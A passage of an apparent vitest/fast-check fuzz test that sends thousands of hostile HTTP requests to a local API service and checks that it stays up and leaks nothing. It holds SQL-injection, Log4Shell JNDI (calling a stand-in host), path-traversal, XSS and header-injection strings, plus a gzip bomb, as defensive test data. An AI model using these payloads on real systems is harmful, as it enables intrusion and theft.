/**
 * Bad input proves nothing breaks (issue 10). Property-based: fast-check generates 10,200 hostile
 * requests over every endpoint (wrong types, huge numbers, unicode and lone surrogates, injection
 * strings, repeated and bracketed parameters, oversized and deeply nested bodies, wrong content types,
 * oversized and CR/LF-laden headers, weird methods, bad keys, Idempotency-Keys and origins) and sends
 * them as raw bytes over real sockets to ONE service on a devnet whose catalogue the indexer filled
 * (then paused), so the chain-backed paths (quote, prepare, pilot, balances) really run.
 *
 * Every answer must be a documented status of its endpoint: a valid success body, or the SPEC §7
 * envelope (code of that status, requestId = X-Request-Id, retryable as the table says). No 5xx, the
 * server stays up, no stack trace leaks, no injected header comes back. Afterwards the store holds
 * exactly the positions of the 200 prepares, each one valid; no API key appeared; the catalogue
 * tables are byte for byte what they were.
 *
 * Devnet ports 19600-19602. FUZZ_SEED=<n> replays a run (the seed is printed with any failure).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { getAddress } from 'viem';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Devnet, startDevnet } from '../../devnet/devnet.js';
import { startIndexer } from '../../indexer/index.js';
import { ERROR_CODES, type ErrorCode } from '../../lib/errors.js';
import { POSITION_LIMITS, WALLET_PATTERN } from '../../rest/positionRequest.js';
import { query } from '../../store/db.js';
import { testPort } from '../helpers/ports.js';
import { KeepAliveConnection, type RawRequest, type RawResponse, rawRequest } from '../helpers/rawHttp.js';
import { INTERNAL_TOKEN, startTestService, type TestService } from '../helpers/service.js';

const BASE_PORT = testPort(19600);
const SEED = Number(process.env.FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31));
const CONCURRENCY = 12;
/** FUZZ_SCALE=0.1 for a quick look while developing; the suite's own run is 1 (≥ 10,000 requests). */
const SCALE = Number(process.env.FUZZ_SCALE ?? 1);

/** Generated requests per endpoint (10,200 in all). */
const RUNS = {
  stats: 600,
  chains: 600,
  strategies: 1000,
  'strategy-detail': 800,
  quote: 1000,
  badge: 600,
  pilot: 700,
  balances: 800,
  prepare: 1800,
  position: 900,
  graphql: 800,
  unknown: 600,
} as const;
type Endpoint = keyof typeof RUNS;

/**
 * What each endpoint may answer: SPEC §4 lists, plus what the conventions add to every path (405 for a
 * wrong method, 429, and 400 BAD_REQUEST for a request that cannot be parsed at all). Where the code
 * answers more than SPEC's list (the facade's parameter validation on strategies, strategy-detail and
 * badge; 404 for an unknown hash) it is marked: those are reported to the lead as SPEC gaps.
 * 503/504 are not allowed: every upstream is up in this suite.
 */
const BASE: Record<number, ErrorCode[]> = {
  400: ['BAD_REQUEST'],
  405: ['METHOD_NOT_ALLOWED'],
  429: ['RATE_LIMITED'],
};
const INVALID: Record<number, ErrorCode[]> = { 400: ['BAD_REQUEST', 'INVALID_PARAMETER'] };
const ALLOWED: Record<Endpoint, Record<number, ErrorCode[]>> = {
  stats: { 200: [], ...BASE },
  chains: { 200: [], ...BASE },
  // SPEC §4.3 lists 405, 429 (and 500); 400 and 404 (resource=detail) are the route's.
  strategies: { 200: [], ...BASE, ...INVALID, 404: ['NOT_FOUND'] },
  // SPEC §4.5 lists 429 only; 400 (hash missing or malformed) and 404 (unknown) are the route's.
  'strategy-detail': { 200: [], ...BASE, ...INVALID, 404: ['NOT_FOUND'] },
  // SPEC §4.4: 400, 422, 429; 404 (no such strategy) is the resolver's.
  quote: {
    200: [],
    ...BASE,
    ...INVALID,
    404: ['NOT_FOUND'],
    422: ['UNPROCESSABLE', 'UNSUPPORTED_CHAIN'],
  },
  // SPEC §4.6 lists no error; 400 (unknown metric) is the route's.
  badge: { 200: [], ...BASE, ...INVALID },
  pilot: { 200: [], ...BASE, 403: ['FORBIDDEN'] },
  balances: { 200: [], ...BASE, ...INVALID, 403: ['FORBIDDEN'] },
  prepare: {
    200: [],
    ...BASE,
    ...INVALID,
    401: ['UNAUTHORIZED'],
    403: ['FORBIDDEN'],
    422: ['UNPROCESSABLE', 'UNSUPPORTED_CHAIN'],
  },
  // SPEC §4.10: 400, 401, 404, 429; 403 for a key's non-permitted origin is §5.7's.
  position: {
    200: [],
    ...BASE,
    ...INVALID,
    401: ['UNAUTHORIZED'],
    403: ['FORBIDDEN'],
    404: ['NOT_FOUND'],
  },
  // /graphql without the internal token: 401 envelope (DESIGN.md), before anything is read.
  graphql: { 400: ['BAD_REQUEST'], 401: ['UNAUTHORIZED'], 405: ['METHOD_NOT_ALLOWED'] },
  unknown: { 400: ['BAD_REQUEST'], 404: ['NOT_FOUND'], 405: ['METHOD_NOT_ALLOWED'], 429: ['RATE_LIMITED'] },
};
/** With the internal token, /graphql answers as GraphQL over HTTP (yoga): never a 5xx. */
const GRAPHQL_AUTHED = new Set([200, 204, 400, 401, 403, 404, 405, 406, 415, 422]);

interface Case {
  endpoint: Endpoint;
  request: RawRequest;
  /** /graphql with the internal token. */
  internal?: boolean;
}

// ---------------------------------------------------------------------------------------------------
// Hostile values

const BIG = (10n ** 80n).toString();
const UINT256 = (1n << 256n).toString();
const INJECTIONS = [
  "' OR 1=1--",
  "'; DROP TABLE positions;--",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  "1' UNION SELECT key_id, secret_hash FROM api_keys--",
  '$where',
  '{"$where":"sleep(1000)"}',
  '{"$gt":""}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  'a\u0000b',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the injection string itself
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '\\',
  '\r\nX-Injected: 1',
  '\nSet-Cookie: a=b',
];
const NUMBERS = [
  '0',
  '-0',
  '00',
  '-1',
  '1.5',
  '1e6',
  '1e308',
  '1e309',
  '-1e308',
  '5e-324',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '0b1',
  '1n',
  '1_000',
  ' 1',
  '1 ',
  '+1',
  '１２３',
  '٣',
  BIG,
  UINT256,
  '9'.repeat(100),
  String(Number.MAX_SAFE_INTEGER + 2),
  ((1n << 248n) - 1n).toString(),
  (1n << 248n).toString(),
];
const UNICODE = [
  '\u202Eevil\u202C',
  '\u200B',
  '\u200D\u200D',
  '\uFEFF',
  'USDC\u200B',
  'US\u00ADDC',
  '💥',
  '👨‍👩‍👧‍👦',
  'e\u0301',
  '𝕌𝕊𝔻ℂ',
  'ＵＳＤＣ',
  'İ',
  'ß',
  'ǅ',
  'ﷺ',
  '\uD800',
  '\uDFFF',
  'a\uD83Db',
  '\u0085',
  '\u2028',
];

/**
 * Strings of code points up to `max` (fc.string's 'binary' and 'grapheme' units build a reverse map of
 * all of Unicode when created: seconds of CPU for nothing here).
 */
function codePoints(max: number, maxLength: number): fc.Arbitrary<string> {
  return fc
    .array(fc.integer({ min: 0, max }), { maxLength })
    .map((codes) =>
      codes.map((c) => (max > 0xffff && c >= 0xd800 && c <= 0xdfff ? 'x' : String.fromCodePoint(c))).join(''),
    );
}

const nasty: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 4 },
  { arbitrary: fc.constantFrom(...NUMBERS), weight: 4 },
  { arbitrary: fc.constantFrom(...UNICODE), weight: 3 },
  { arbitrary: codePoints(0x10ffff, 30), weight: 3 },
  // UTF-16 code units: lone surrogates included.
  { arbitrary: codePoints(0xffff, 20), weight: 2 },
  { arbitrary: codePoints(0x7f, 12), weight: 2 },
  { arbitrary: fc.constantFrom(200, 1000, 5000).map((n) => 'a'.repeat(n)), weight: 1 },
);

const hex = (n: number) =>
  fc.string({ unit: fc.constantFrom(...'0123456789abcdefABCDEF'), minLength: n, maxLength: n });
const hash64 = hex(64).map((h) => `0x${h}`);
/** Mixed case at random: mostly a bad EIP-55 checksum. */
const address = hex(40).map((h) => `0x${h}`);

/** UTF-8, with lone surrogates as their 3-byte (WTF-8) forms: invalid UTF-8 on purpose. */
function wtf8(text: string): number[] {
  const bytes: number[] = [];
  for (let i = 0; i < text.length; i++) {
    let code = text.charCodeAt(i);
    const next = text.charCodeAt(i + 1);
    if (code >= 0xd800 && code <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      code = 0x10000 + ((code - 0xd800) << 10) + (next - 0xdc00);
      i++;
    }
    if (code < 0x80) bytes.push(code);
    else if (code < 0x800) bytes.push(0xc0 | (code >> 6), 0x80 | (code & 63));
    else if (code < 0x10000) bytes.push(0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63));
    else
      bytes.push(
        0xf0 | (code >> 18),
        0x80 | ((code >> 12) & 63),
        0x80 | ((code >> 6) & 63),
        0x80 | (code & 63),
      );
  }
  return bytes;
}
const pct = (text: string) =>
  wtf8(text)
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

/** How a value lands in a query string or path: encoded, double-encoded, raw, or a broken escape. */
const encoded = (value: fc.Arbitrary<string>) =>
  fc.tuple(value, fc.nat(99)).map(([v, roll]) => {
    if (roll < 70) return pct(v);
    if (roll < 78) return pct(pct(v));
    if (roll < 86) return v.replace(/ /g, '+');
    if (roll < 93) return `${pct(v)}%${roll % 2 ? 'E0%A4%A' : 'zz'}`;
    return v; // raw: non-ASCII, spaces, '#', '&' as they are
  });

/** More parameters than qs parses (its parameterLimit is 1000). */
const FLOOD = Array.from({ length: 1200 }, (_, i) => `p${i}=1`).join('&');

/** `name=v`, repeated, `name[]`, `name[x]`, deep brackets, dotted, prototype keys, bare names. */
function queryOf(names: string[], value: (name: string) => fc.Arbitrary<string>): fc.Arbitrary<string> {
  const pair = fc
    .constantFrom(...names, 'x', '__proto__', 'constructor')
    .chain((name) =>
      fc.tuple(
        fc.constantFrom(
          name,
          name,
          name,
          name,
          `${name}[]`,
          `${name}[0]`,
          `${name}[b]`,
          `${name}[__proto__]`,
          `${name}.b`,
          `${name}${'[a]'.repeat(30)}`,
          pct(name),
          name.toUpperCase(),
        ),
        encoded(value(name)),
        fc.nat(19),
      ),
    );
  return fc.array(pair, { maxLength: 6 }).chain((pairs) =>
    fc.nat(39).map((roll) => {
      const parts = pairs.map(([n, v, r]) => (r === 0 ? n : r === 1 ? `${n}=` : `${n}=${v}`));
      if (roll === 0) parts.push(FLOOD);
      if (roll === 1) parts.push('&&&=&=x&%26');
      return parts.length === 0 ? '' : `?${parts.join('&')}`;
    }),
  );
}

const METHODS = [
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'MKCOL',
  'PURGE',
  'SEARCH',
  'LINK',
  'CONNECT',
  'FOO',
  'get',
  'G ET',
  'GET\u0000',
];
const method = (main: 'GET' | 'POST') =>
  fc.oneof(
    { arbitrary: fc.constant(main), weight: 80 },
    { arbitrary: fc.constant(main === 'GET' ? 'HEAD' : 'GET'), weight: 6 },
    { arbitrary: fc.constantFrom(...METHODS), weight: 14 },
  );

let clientCounter = 0;
/** A fresh client per request (TRUST_PROXY): the per-client buckets do not turn the run into 429s. */
const forwardedFor = () => {
  clientCounter++;
  return `10.${(clientCounter >> 16) & 255}.${(clientCounter >> 8) & 255}.${clientCounter & 255}`;
};

/** Headers nobody should be able to use against the service: CR/LF, NUL, huge, many, conflicting. */
const noise: fc.Arbitrary<[string, string][]> = fc.oneof(
  { arbitrary: fc.constant<[string, string][]>([]), weight: 60 },
  {
    weight: 40,
    arbitrary: fc.array(
      fc.oneof(
        fc.tuple(
          fc.constant('X-Injected-Test'),
          fc.constantFrom('a\r\nX-Injected: 1', 'a\r\nSet-Cookie: x=1'),
        ),
        fc.tuple(fc.constantFrom('X-A', 'Accept', 'Cookie', 'User-Agent'), nasty),
        fc.tuple(
          fc.constant('X-Big'),
          fc.constantFrom(100, 8000, 20_000).map((n) => 'b'.repeat(n)),
        ),
        fc.tuple(fc.constant('X-Lf'), fc.constantFrom('a\nb', 'a\rb', 'a\u0000b', ' folded\r\n continued')),
        fc.tuple(
          fc.constant('X-Forwarded-For'),
          fc.constantFrom('unknown', '1.2.3.4, evil', '', 'x'.repeat(300)),
        ),
        fc.tuple(fc.constantFrom('Expect'), fc.constantFrom('100-continue', 'foo', '')),
        fc.tuple(fc.constant('Host'), fc.constantFrom('', 'evil.example', 'a b', '[::1]:1', 'h'.repeat(500))),
        fc.tuple(fc.constant('Content-Length'), fc.constantFrom('-1', 'abc', '1, 2', '99999999999999999999')),
        fc.tuple(fc.constant('Transfer-Encoding'), fc.constantFrom('chunked, gzip', 'identity', 'xchunked')),
        fc.tuple(fc.constant('Upgrade'), fc.constant('websocket')),
        fc.tuple(fc.constant('If-None-Match'), fc.constant('*')),
        fc.tuple(fc.constant('Range'), fc.constant('bytes=0-1')),
        fc.tuple(fc.constant('Accept-Encoding'), fc.constant('gzip, br, zstd')),
      ),
      { minLength: 1, maxLength: 4 },
    ),
  },
  {
    arbitrary: fc.constant(Array.from({ length: 300 }, (_, i) => [`X-H${i}`, 'v'] as [string, string])),
    weight: 2,
  },
);

function request(
  endpoint: Endpoint,
  verb: string,
  target: string,
  headers: [string, string][],
  extra: Partial<RawRequest> = {},
): Case {
  return {
    endpoint,
    request: { method: verb, target, headers: [['X-Forwarded-For', forwardedFor()], ...headers], ...extra },
  };
}

// ---------------------------------------------------------------------------------------------------
// The service under test and what the generators need from it

let devnet: Devnet;
let dataDir: string;
let svc: TestService;
let port: number;
let liveKeys: string[] = [];
let testKey: string;
let noScopeKey: string;
let originKey: string;
let revokedKey: string;
/** Positions prepared in setup: [id, the key that prepared it]. */
const known: [string, string][] = [];
let strategyHashes: string[] = [];
let quotable: [string, string][] = [];
let cursor = '';
let apiKeysBefore = 0;
let catalogueBefore: Record<string, string> = {};
const idempotencyPool = [
  '3f2b8c1e-5d4a-4e6f-9b7a-1c2d3e4f5a6b',
  '00000000-0000-0000-0000-000000000000',
  'A0EEBC99-9C0B-4EF8-BB6D-6BB9BD380A11',
];
const CATALOGUE = [
  'strategies',
  'swaps',
  'balance_changes',
  'volume_hourly',
  'rollups',
  'indexer_checkpoints',
];
const SYMBOLS: Record<string, [string, string][]> = {
  base: [
    ['USDC', 'USDT'],
    ['USDC', 'EURC'],
    ['EURC', 'USDT'],
  ],
  arc: [['USDC', 'EURC']],
  baseSepolia: [['USDC', 'USDT']],
};

async function catalogueSnapshot(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const table of CATALOGUE) {
    const { rows } = await query<{ n: string; digest: string | null }>(
      svc.services.db,
      `SELECT count(*) AS n, md5(string_agg(t::text, '|' ORDER BY t::text)) AS digest FROM ${table} t`,
    );
    out[table] = `${rows[0]!.n}:${rows[0]!.digest}`;
  }
  return out;
}

async function countOf(table: string): Promise<number> {
  const { rows } = await query<{ n: string }>(svc.services.db, `SELECT count(*) AS n FROM ${table}`);
  return Number(rows[0]!.n);
}

const json = (res: Response) => res.json() as Promise<Record<string, unknown>>;

beforeAll(async () => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'fuzz-e2e-'));
  // The activity bot stays idle and the indexer runs once, then never again: the catalogue is frozen.
  devnet = await startDevnet({ basePort: BASE_PORT, dataDir, activityMs: 2_000_000_000 });
  svc = await startTestService({
    chains: devnet.chains,
    // A request that never completes (a Content-Length with no body) is cut after 1.5 s, not 10.
    env: { INDEXER: 'off', TRUST_PROXY: '1', RPC_TIMEOUT_MS: '10000', REQUEST_TIMEOUT_MS: '1500' },
  });
  port = Number(new URL(svc.url).port);
  const indexer = await startIndexer(svc.services, { background: false });
  await indexer.syncNow();
  await indexer.refreshNow();
  await indexer.stop();

  const create = async (input: Record<string, unknown>) =>
    (await svc.createKey({ prepareLimitPerMinute: 100_000, ...input })).key;
  liveKeys = [];
  for (let i = 0; i < 12; i++) liveKeys.push(await create({ environment: 'LIVE', label: `fuzz ${i}` }));
  testKey = await create({ environment: 'TEST' });
  noScopeKey = await create({ environment: 'LIVE', scopes: [] });
  originKey = await create({ environment: 'LIVE', origins: ['https://integrator.example'] });
  const revoked = await svc.createKey({ environment: 'LIVE' });
  await svc.graphql('mutation($id: String!) { revokeApiKey(keyId: $id) }', { id: revoked.keyId });
  revokedKey = revoked.key;

  // One position per live key, so GET /v1/positions/{id} has 200s (owner) and 404s (any other key).
  for (const key of liveKeys) {
    const res = await svc.get('/v1/positions', {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${key}` },
      body: JSON.stringify({
        chain: 'base',
        wallet: '0x70997970C51812dc3A010C7d01b50e0d17dc79C8',
        deposits: [
          { symbol: 'USDC', amount: '1000000' },
          { symbol: 'USDT', amount: '1000000' },
        ],
      }),
    });
    const body = (await json(res)) as { data: { strategyHash: string } };
    expect(res.status, JSON.stringify(body)).toBe(200);
    known.push([body.data.strategyHash, key]);
  }

  const { rows } = await query<{ strategy_hash: string; app: string; chain_key: string; pair_key: string }>(
    svc.services.db,
    'SELECT strategy_hash, app, chain_key, pair_key FROM strategies',
  );
  strategyHashes = [...new Set(rows.map((r) => r.strategy_hash))];
  quotable = rows
    .filter(
      (r) =>
        r.pair_key === 'USDC/USDT' &&
        r.app === devnet.chains.find((c) => c.key === r.chain_key)?.router.toLowerCase(),
    )
    .map((r): [string, string] => [r.strategy_hash, r.chain_key]);
  expect(strategyHashes.length).toBeGreaterThan(3);
  expect(quotable.length).toBeGreaterThan(0);
  const list = (await json(
    await svc.get('/api/strategies?limit=1', { headers: { 'x-forwarded-for': '10.255.0.1' } }),
  )) as { data: { page: { nextCursor: string | null } } };
  cursor = list.data.page.nextCursor ?? '';

  apiKeysBefore = await countOf('api_keys');
  catalogueBefore = await catalogueSnapshot();
}, 120_000);

afterAll(async () => {
  await svc?.stop();
  await devnet?.stop();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

// ---------------------------------------------------------------------------------------------------
// Generators, one per endpoint (built once the service runs: they use its keys, hashes and port)

function operatorOrigins(): string[] {
  return [`http://127.0.0.1:${port}`, `http://localhost:${port}`];
}

/** Origin/Referer: operator pages, look-alikes, opaque and non-HTTP origins, garbage, both or none. */
function originHeaders(): fc.Arbitrary<[string, string][]> {
  const good = fc.constantFrom(...operatorOrigins());
  const bad = fc.oneof(
    fc.constantFrom(
      'null',
      '',
      'http://evil.example',
      `http://127.0.0.1:${port}.evil.example`,
      `http://127.0.0.1:${port}@evil.example`,
      `http://evil.example/http://127.0.0.1:${port}`,
      `https://127.0.0.1:${port}`,
      `http://127.0.0.1:${port + 1}`,
      `HTTP://LOCALHOST:${port}`,
      `http://[::1]:${port}`,
      'javascript:alert(1)',
      'file:///etc/passwd',
      `http://127.0.0.1:${port}\r\nX-Injected: 1`,
      `http://127.0.0.1:${port}\u0000`,
    ),
    nasty,
  );
  return fc.oneof(
    { weight: 30, arbitrary: good.map((o): [string, string][] => [['Origin', o]]) },
    {
      weight: 15,
      arbitrary: fc
        .tuple(good, nasty)
        .map(([o, p]): [string, string][] => [['Referer', `${o}/demo?${pct(p)}`]]),
    },
    { weight: 25, arbitrary: bad.map((o): [string, string][] => [['Origin', o]]) },
    { weight: 10, arbitrary: bad.map((o): [string, string][] => [['Referer', o]]) },
    {
      weight: 10,
      arbitrary: fc.tuple(bad, good).map(([b, g]): [string, string][] => [
        ['Origin', b],
        ['Referer', g],
      ]),
    },
    {
      weight: 5,
      arbitrary: fc.tuple(good, bad).map(([g, b]): [string, string][] => [
        ['Origin', g],
        ['Origin', b],
      ]),
    },
    { weight: 5, arbitrary: fc.constant<[string, string][]>([]) },
  );
}

/**
 * A valid query (its values encoded as a client would), then up to two mutations: one value replaced
 * by a hostile one, a parameter repeated, bracketed or dropped. Keeps the success paths in the mix.
 */
function mutatedQuery(
  valid: fc.Arbitrary<[string, string][]>,
  value: (name: string) => fc.Arbitrary<string>,
): fc.Arbitrary<string> {
  const mutation = fc.tuple(fc.nat(4), fc.nat(20)).chain(([kind, index]) =>
    fc.constant((pairs: [string, string][]) => {
      if (pairs.length === 0) return fc.constant(pairs);
      const i = index % pairs.length;
      const [name, v] = pairs[i]!;
      const copy = [...pairs];
      if (kind === 0)
        return encoded(value(name)).map((bad) => {
          copy[i] = [name, bad];
          return copy;
        });
      if (kind === 1) copy.push([name, pct(v)]);
      if (kind === 2) copy[i] = [`${name}[]`, v];
      if (kind === 3) copy.splice(i, 1);
      if (kind === 4) copy[i] = [`${name}[b]`, v];
      return fc.constant(copy);
    }),
  );
  return fc
    .tuple(
      valid.map((pairs) => pairs.map(([n, v]): [string, string] => [n, pct(v)])),
      fc.array(mutation, { maxLength: 2 }),
    )
    .chain(([pairs, ms]) => ms.reduce((acc, m) => acc.chain(m), fc.constant(pairs)))
    .map((pairs) => (pairs.length === 0 ? '' : `?${pairs.map(([n, v]) => `${n}=${v}`).join('&')}`));
}

function getCase(
  endpoint: Endpoint,
  paths: string[],
  names: string[],
  value: (name: string) => fc.Arbitrary<string>,
  headers = fc.constant<[string, string][]>([]),
  valid?: fc.Arbitrary<[string, string][]>,
) {
  const q = valid
    ? fc.oneof(
        { weight: 55, arbitrary: queryOf(names, value) },
        { weight: 45, arbitrary: mutatedQuery(valid, value) },
      )
    : queryOf(names, value);
  return fc
    .tuple(method('GET'), fc.constantFrom(...paths), q, headers, noise)
    .map(([verb, p, query, h, n]) => request(endpoint, verb, `${p}${query}`, [...h, ...n]));
}

const pick = (valid: string[], weight = 60) =>
  fc.oneof({ arbitrary: fc.constantFrom(...valid), weight }, { arbitrary: nasty, weight: 100 - weight });

function generators(): Record<Endpoint, fc.Arbitrary<Case>> {
  const chains = ['base', 'arc', 'baseSepolia'];
  const hashes = () =>
    fc.oneof(
      fc.constantFrom(...strategyHashes),
      hash64,
      nasty,
      fc.constantFrom(...strategyHashes).map((h) => h.toUpperCase().replace('0X', '0x')),
    );
  return {
    stats: getCase(
      'stats',
      ['/api/stats', '/api/stats', '/api/stats', '/API/STATS', '/api/stats/'],
      ['x', 'cached', 'callback'],
      () => nasty,
    ),
    chains: getCase(
      'chains',
      ['/api/chains', '/api/chains', '/Api/Chains', '/api/chains/'],
      ['chain', 'x'],
      () => nasty,
    ),
    strategies: getCase(
      'strategies',
      ['/api/strategies'],
      ['resource', 'q', 'pair', 'chain', 'limit', 'cursor', 'sort', 'hash'],
      (name) => {
        switch (name) {
          case 'resource':
            return pick(['list', 'search', 'detail', 'chains', 'stats'], 70);
          case 'q':
            return pick(['usdc', 'base USDT', 'eur', 'arc usdc usdt'], 40);
          case 'pair':
            return pick(['USDC/USDT', 'usdc/eurc', 'USDC/USDC', 'A/B/C', '/', 'USDC/'], 50);
          case 'chain':
            return pick(chains, 50);
          case 'limit':
            return pick(['1', '20', '100', '0', '101', '-1', '1e2', '01'], 60);
          case 'cursor':
            return pick([cursor, `${cursor}x`, 'AAAA', 'W10', 'WyJhIiwiYiIsImMiLCJkIl0'], 40);
          case 'sort':
            return pick(['recent', 'volume'], 60);
          default:
            return hashes();
        }
      },
      undefined,
      fc.oneof(
        fc
          .record({
            chain: fc.option(fc.constantFrom(...chains), { nil: undefined }),
            pair: fc.option(fc.constantFrom('USDC/USDT', 'EURC/USDC', 'usdt/usdc'), { nil: undefined }),
            limit: fc.option(fc.integer({ min: 1, max: 100 }).map(String), { nil: undefined }),
            sort: fc.option(fc.constantFrom('recent', 'volume'), { nil: undefined }),
          })
          .map((r) => [
            ['resource', 'list'] as [string, string],
            ...Object.entries(r).filter((e): e is [string, string] => e[1] !== undefined),
          ]),
        fc.constantFrom('usdc', 'base usdt', 'EURC/USDT', 'arc').map((q): [string, string][] => [
          ['resource', 'search'],
          ['q', q],
        ]),
        fc.constantFrom(...strategyHashes).map((h): [string, string][] => [
          ['resource', 'detail'],
          ['hash', h],
        ]),
        fc.constantFrom<[string, string][]>(
          [['resource', 'chains']],
          [['resource', 'stats']],
          [['cursor', cursor]],
        ),
      ),
    ),
    'strategy-detail': getCase(
      'strategy-detail',
      ['/api/strategy-detail'],
      ['hash', 'chain'],
      (name) => (name === 'hash' ? hashes() : pick(chains, 50)),
      undefined,
      fc.constantFrom(...quotable).map(([h, chain]): [string, string][] => [
        ['hash', h],
        ['chain', chain],
      ]),
    ),
    quote: getCase(
      'quote',
      ['/api/quote'],
      ['hash', 'amount', 'direction', 'chain'],
      (name) => {
        switch (name) {
          case 'hash':
            return fc.oneof(
              { arbitrary: fc.constantFrom(...quotable.map(([h]) => h)), weight: 3 },
              { arbitrary: hashes(), weight: 2 },
            );
          case 'amount':
            return fc.oneof(
              fc.constantFrom('1', '1000000', '123456789', '1000000000000'),
              fc.constantFrom(...NUMBERS),
              nasty,
            );
          case 'direction':
            return pick(['aToB', 'bToA', 'AtoB', 'btoa'], 60);
          default:
            return pick([...chains, 'ethereum'], 60);
        }
      },
      undefined,
      fc
        .tuple(
          fc.constantFrom(...quotable),
          fc.oneof(
            fc.constantFrom('1', '1000000', '987654321'),
            fc.bigInt({ min: 1n, max: 10n ** 30n }).map(String),
          ),
          fc.constantFrom('aToB', 'bToA'),
        )
        .map(([[hash, chain], amount, direction]): [string, string][] => [
          ['hash', hash],
          ['amount', amount],
          ['direction', direction],
          ['chain', chain],
        ]),
    ),
    badge: getCase(
      'badge',
      ['/api/badge'],
      ['metric'],
      () =>
        pick(['volume30', 'volume7', 'volume1', 'strategies', 'makers', 'pairs', 'chains', 'VOLUME30'], 50),
      undefined,
      fc
        .constantFrom('volume30', 'volume7', 'volume1', 'strategies', 'makers', 'pairs', 'chains')
        .map((m): [string, string][] => [['metric', m]]),
    ),
    pilot: getCase('pilot', ['/api/pilot'], ['x', 'block', 'window'], () => nasty, originHeaders()),
    balances: getCase(
      'balances',
      ['/api/balances'],
      ['addresses'],
      () =>
        fc
          .array(
            fc.oneof(
              address,
              address.map((a) => getAddress(a)),
              address.map((a) => `0x${a.slice(2).toUpperCase()}`),
              address.map((a) => ` ${a} `),
              nasty,
              fc.constant(''),
            ),
            { maxLength: 13 },
          )
          .map((list) => list.join(',')),
      originHeaders(),
      fc
        .array(
          fc.oneof(
            address.map((a) => a.toLowerCase()),
            address.map((a) => getAddress(a)),
          ),
          { minLength: 1, maxLength: 10 },
        )
        .map((list): [string, string][] => [['addresses', list.join(',')]]),
    ),
    prepare: prepareCase(),
    position: positionCase(),
    graphql: graphqlCase(),
    unknown: unknownCase(),
  };
}

/** A valid intent, then up to three mutations; serialised straight, or as hostile JSON text. */
let bomb: Buffer | undefined;
/** 20 MB of spaces in 20 kB of gzip: the limit must hold for the inflated size. */
const gzipBomb = () => {
  bomb ??= gzipSync(Buffer.alloc(20_000_000, 0x20));
  return bomb;
};

function prepareCase(): fc.Arbitrary<Case> {
  const amount = fc.oneof(
    fc.bigInt({ min: 1n, max: POSITION_LIMITS.maxAmount }).map(String),
    fc.constantFrom('1', '1000000', POSITION_LIMITS.maxAmount.toString()),
  );
  const valid = fc
    .record({
      chain: fc.constantFrom('base', 'arc', 'baseSepolia'),
      wallet: fc.oneof(
        address,
        address.map((a) => getAddress(a)),
      ),
      amounts: fc.tuple(amount, amount),
      order: fc.boolean(),
      pairIndex: fc.nat(2),
      makerFeeBps: fc.option(fc.integer({ min: 0, max: 2_000_000 }), { nil: undefined }),
      includeApprovals: fc.option(fc.boolean(), { nil: undefined }),
      checkBalances: fc.option(fc.boolean(), { nil: undefined }),
      metadata: fc.option(
        fc.dictionary(fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9_.:-]{0,10}$/), codePoints(0x7f, 20), {
          maxKeys: 3,
        }),
        { nil: undefined },
      ),
    })
    .map((r) => {
      const pairs = SYMBOLS[r.chain]!;
      const [a, b] = pairs[r.pairIndex % pairs.length]!;
      const deposits = [
        { symbol: a, amount: r.amounts[0] },
        { symbol: b, amount: r.amounts[1] },
      ];
      const body: Record<string, unknown> = {
        chain: r.chain,
        wallet: r.wallet,
        deposits: r.order ? deposits : deposits.reverse(),
      };
      for (const k of ['makerFeeBps', 'includeApprovals', 'checkBalances', 'metadata'] as const)
        if (r[k] !== undefined) body[k] = r[k];
      return body;
    });
  const hostile: fc.Arbitrary<unknown> = fc.oneof(
    nasty,
    fc.constantFrom(...NUMBERS).map(Number),
    fc.constantFrom(1e308, -0, 2 ** 53 + 1, -1, 0.5, 2_000_001, Number.MIN_VALUE),
    fc.jsonValue({ maxDepth: 3 }),
    fc.constant(null),
    fc.constantFrom(true, false),
    fc.constantFrom(
      `0x${'ab'.repeat(32)}`,
      'test test test test test test test test test test test junk',
      'svc_live_a_b',
    ),
  );
  const mutation = fc.oneof(
    fc
      .tuple(
        fc.constantFrom(
          'chain',
          'wallet',
          'deposits',
          'makerFeeBps',
          'includeApprovals',
          'checkBalances',
          'metadata',
        ),
        hostile,
      )
      .map(([field, v]) => (body: Record<string, unknown>) => {
        body[field] = v;
      }),
    fc
      .tuple(fc.nat(1), fc.constantFrom('symbol', 'amount', 'price'), hostile)
      .map(([i, field, v]) => (body: Record<string, unknown>) => {
        const deposits = body.deposits as Record<string, unknown>[];
        if (Array.isArray(deposits) && deposits[i] && typeof deposits[i] === 'object')
          deposits[i]![field] = v;
      }),
    fc.constantFrom('chain', 'wallet', 'deposits').map((field) => (body: Record<string, unknown>) => {
      delete body[field];
    }),
    fc
      .tuple(
        fc.constantFrom('privateKey', 'mnemonic', 'signature', '$where', 'constructor', 'slippage'),
        hostile,
      )
      .map(([field, v]) => (body: Record<string, unknown>) => {
        body[field] = v;
      }),
